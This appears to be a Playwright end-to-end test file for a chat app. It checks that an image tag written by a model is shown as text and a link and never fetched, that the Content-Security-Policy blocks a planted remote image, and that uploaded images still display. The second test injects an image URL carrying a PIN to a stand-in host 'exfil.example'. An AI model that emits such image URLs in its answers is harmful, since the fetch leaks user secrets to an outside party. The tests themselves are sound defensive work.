"""In a real chromium: what a model writes never makes the browser fetch a remote URL,
and the app's own images still show under its Content-Security-Policy."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from playwright.sync_api import expect

from evals.fixtures import cat_image
from tests.e2e.harness import EXFIL_URL, send

TIMEOUT_MS = 15_000


def fetched_pin(page: Any) -> list[str]:
    return [url for url in page.requests if "pin=4321" in url]


def test_a_model_written_image_is_a_link_and_never_fetched(page: Any) -> None:
    send(page, "show me a picture")
    answer = page.locator("#chatbot [data-testid='bot'] .message-content").last
    expect(answer).to_contain_text("Here it is:", timeout=TIMEOUT_MS)
    expect(answer.locator(f"a[href='{EXFIL_URL}']")).to_have_text("pin")
    expect(answer).to_contain_text('img src="')  # the tag is shown as text
    assert answer.locator("img").count() == 0
    page.wait_for_timeout(500)
    assert fetched_pin(page) == []


def test_the_policy_blocks_a_remote_image_even_if_one_gets_in(page: Any) -> None:
    blocked = page.evaluate(
        """() => new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation",
                (event) => resolve(event.blockedURI), {once: true});
            const img = document.createElement("img");
            img.src = "http://exfil.example/slipped-in.png?pin=4321";
            document.body.appendChild(img);
        })"""
    )
    assert blocked.startswith("http://exfil.example/")
    assert fetched_pin(page) == []


def test_an_uploaded_image_still_shows(page: Any, tmp_path: Path) -> None:
    upload = tmp_path / "cat.png"
    upload.write_bytes(cat_image("black"))
    page.locator("#chat-input input[type='file']").set_input_files(str(upload))
    send(page, "what is this?")
    shown = page.locator("#chatbot [data-testid='user'] img").last
    expect(shown).to_be_visible(timeout=TIMEOUT_MS)
    expect(shown).to_have_js_property("complete", True)
    assert shown.evaluate("img => img.naturalWidth") > 0
